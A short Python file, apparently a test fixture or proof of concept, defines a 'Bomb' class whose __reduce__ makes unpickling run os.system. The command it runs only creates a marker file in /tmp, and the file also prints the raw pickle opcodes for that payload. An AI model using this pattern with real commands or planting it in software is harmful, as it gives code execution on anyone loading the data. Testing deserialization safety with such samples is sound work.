# mypy: ignore-errors
import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/PWNED-BY-PICKLE",)

    def __repr__(self) -> str:
        return "cos\nsystem\n(S'touch /tmp/PWNED-BY-PICKLE'\ntR."


Bomb()
